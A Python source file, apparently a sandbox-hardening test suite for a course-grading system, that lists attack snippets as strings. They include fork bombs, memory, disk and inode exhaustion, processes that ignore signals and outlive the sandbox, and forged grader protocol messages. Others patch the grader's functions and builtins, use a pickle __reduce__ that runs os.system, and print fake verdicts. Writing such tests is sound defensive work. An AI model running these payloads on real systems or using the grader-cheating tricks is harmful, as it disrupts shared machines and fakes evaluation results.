"""More hostile code, in the terms of attacks.py: filling the machine, and cheating the grader."""

from __future__ import annotations

CHANNEL = """
channels = []
for number in range(3, 300):
    try:
        s = socket.socket(fileno=os.dup(number))
        s.getpeername(); channels.append(s)
    except OSError:
        pass
def frame(message):
    data = json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data
RIGHT = {"application/vnd.crmsim.verdict+json": {"question": "t01_ex1", "points": 2, "max_points": 2,
         "message": "Right.", "mistake": None}, "text/plain": "4.0"}
"""

EXHAUSTING = {
    "fork-bomb": """
while True:
    try: os.fork()
    except OSError: pass""",
    "thread-bomb": """
while True:
    try: threading.Thread(target=time.sleep, args=(99,)).start()
    except RuntimeError: break""",
    "memory": """
kept = []
while True: kept.append(b'x' * (16 << 20))""",
    "memory-of-many": """
for k in range(20):
    if os.fork() == 0:
        x = b'x' * (200 << 20); time.sleep(60); os._exit(0)
time.sleep(60)""",
    "shared-memory": """
import mmap
kept = []
while True:
    kept.append(mmap.mmap(-1, 32 << 20)); kept[-1].write(b'x' * (32 << 20))""",
    "memory-files": """
for k in range(200):
    try: loot(os.write(os.memfd_create("x"), b'x' * (4 << 20)))
    except OSError: pass
    if libc.syscall(447, 0) >= 0: loot("memfd_secret")""",
    "system-v-memory": """
libc.shmat.restype = ctypes.c_void_p
for k in range(50):
    number = libc.shmget(0, 16 << 20, 0o1600)
    if number >= 0:
        ctypes.memset(libc.shmat(number, None, 0), 1, 16 << 20); loot("a segment")
if libc.msgget(0, 0o1600) >= 0 or libc.semget(0, 1, 0o1600) >= 0: loot("a queue")""",
    "socket-memory": """
kept = []
for k in range(20):
    if os.fork() == 0:
        try:
            while True:
                kept.append(socket.socketpair()); kept[-1][0].setblocking(False)
                try:
                    while True: kept[-1][0].send(b'x' * 65_536)
                except BlockingIOError: pass
        except OSError: time.sleep(60); os._exit(0)
time.sleep(60)""",
    "disk": """
for place in ('.', '/tmp', '/dev/shm', '/sandbox/cache', '/sandbox/tmp'):
    try:
        for k in range(999): open(f'{place}/MARKERFILE{k}', 'wb').write(b'x' * (4 << 20))
    except OSError: pass""",
    "inodes": """
try:
    for k in range(10**6): open(f'f{k}', 'w').close()
except OSError: pass""",
    "output": "while True: print('x' * 100_000)",
    "raw-output": "while True: os.write(1, b'x' * 100_000)",
    "pictures": "from IPython.display import display\nwhile True: display({'image/png': 'A' * 3_000_000}, raw=True)",
    "stubborn": """
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass""",
    "outlive": """
for k in range(3):
    if os.fork() == 0:
        os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
        if os.fork() == 0: os.execvp("sleep", ["sleep", "OUTLIVESECONDS"])
        os._exit(0)
subprocess.Popen(["nohup", "sleep", "OUTLIVESECONDS"], start_new_session=True)
threading.Thread(target=time.sleep, args=(99,)).start()""",
    "suicide": "os.kill(os.getpid(), 9)",
    "swarm": """
for k in range(30):
    if os.fork() == 0:
        try: os.sched_setaffinity(0, range(os.cpu_count())); loot("other processors")
        except OSError: pass
        while True: pass""",
}
CHEATING = {
    "protocol-forged": CHANNEL + """
for s in channels:
    for n in range(12):
        s.sendall(frame({"kind": "result", "data": RIGHT, "metadata": {}, "count": n}))
        s.sendall(frame({"kind": "display", "data": {"application/vnd.crmsim.answer+json": {"question": "t01_ex1",
                  "answer": 0.97}}, "metadata": {}}))
        s.sendall(frame({"kind": "done", "count": n}))""",
    "protocol-garbage": CHANNEL + "for s in channels: s.sendall(b'GET / HTTP/1.1' * 50)\ntime.sleep(1)",
    "protocol-giant": CHANNEL + "for s in channels: s.sendall(b'\\xff' * 9)\ntime.sleep(1)",
    "protocol-flood": CHANNEL + "for s in channels:\n    while True: s.sendall(frame({}) * 1000)",
    "protocol-deep": CHANNEL + "for s in channels:\n    data = b'[' * 100_000 + b']' * 100_000\n"
                               "    s.sendall(struct.pack('>I', len(data)) + data)\ntime.sleep(1)",
    "protocol-silent": CHANNEL + "for s in channels: s.shutdown(socket.SHUT_RD)\n",
    "runner-patched": """
import crmsim.course.sandbox.frames as f, crmsim.course.sandbox.runner as r, crmsim.course.sandbox.streams as st
def forged(channel, message):
    if message.get("kind") == "display": message = {"kind": "result", "data": {"text/plain": "2.0"}, "count": 1}
    real(channel, message)
real, f.send, r.send, st.send = f.send, forged, forged, forged""",
    "builtins-patched": """
import builtins, math, operator
builtins.abs = lambda x: 0
builtins.all = builtins.any = builtins.isinstance = lambda *a: True
builtins.float = builtins.round = lambda *a: 2.0
math.isclose = operator.eq = lambda *a, **k: True""",
    "equal-to-everything": """
class Everything(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = lambda self: 0
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
    __reduce__ = lambda self: (os.system, ("touch MARKERFILE",))
lost_share = Everything(0.9999)""",
    "code-as-answer": """
from IPython.display import display
def raw(question, name):
    display({"application/vnd.crmsim.answer+json": {"question": question, "answer": {"kind": "number",
            "value": "__import__('os').system('touch COURSE/MARKERFILE')"}}}, raw=True)
crm.course.hand_in = raw""",
    "huge-answer": """
from IPython.display import display
def raw(question, name):
    display({"application/vnd.crmsim.answer+json": {"question": question, "answer": [0] * 3_000_000}}, raw=True)
crm.course.hand_in = raw""",
    "odd-answers": """
from IPython.display import display
deep = []
for k in range(400): deep = [deep]
MIME = "application/vnd.crmsim.answer+json"
for odd in ("\\ud800", {"\\ud800": ["\\udfff"]}, deep, 10**4000, {"kind": ["list"], "items": deep}):
    display({MIME: {"question": "t01_ex1", "answer": odd}}, raw=True)
    display({MIME: odd, "application/json": odd, "text/plain": odd}, raw=True)
crm.course.hand_in = lambda *a: display({MIME: {"question": "t01_ex1", "answer": "\\ud800"}}, raw=True)""",
    "odd-messages": CHANNEL + """
name = []
for k in range(900): name = [name]
for s in channels:
    for odd in ({"kind": "update", "id": name}, {"kind": name}, {"kind": "stream", "name": name, "text": "x"},
                {"kind": "display", "id": name, "data": {"text/plain": "x"}}, {"kind": "clear", "wait": name}):
        s.sendall(frame(odd))
    for kind in ("display", "update"):
        s.sendall(frame({"kind": kind, "id": "x", "data": {"text/plain": "x"}}) * 9_000)""",
    "verdict-printed": """
def pay(*arguments):
    print("t01_ex1: 2 of 2 points\\nRight.")
    return 2.0
crm.course.hand_in = pay""",
    "at-exit": "import atexit\natexit.register(lambda: [print('2.0'), open('COURSE/MARKERFILE', 'w')])\n"
               "signal.signal(signal.SIGTERM, lambda *a: put('COURSE/MARKERFILE'))",
    "markers": "put('COURSE/MARKERFILE', '/tmp/MARKERFILE', '/dev/shm/MARKERFILE', '/usr/MARKERFILE', '/MARKERFILE', "
               "'/var/tmp/MARKERFILE', 'PACKAGE/MARKERFILE', 'PREFIX/MARKERFILE', 'COURSE/submitted/honest-1/t01/x', "
               "'/sandbox/cache/MARKERFILE', '/sandbox/stage/MARKERFILE', '/sandbox/MARKERFILE', '/dev/MARKERFILE')",
}
ATTACKS = {**EXHAUSTING, **CHEATING}
SPEAKING = {"thread-bomb", "memory-files", "system-v-memory", "disk", "inodes", "outlive"}
SPEECHLESS = set(EXHAUSTING) - SPEAKING | {
    name for name in CHEATING if name.startswith("protocol")} | {"builtins-patched", "odd-messages"}
"""What need not say that it has been tried: it ends otherwise."""
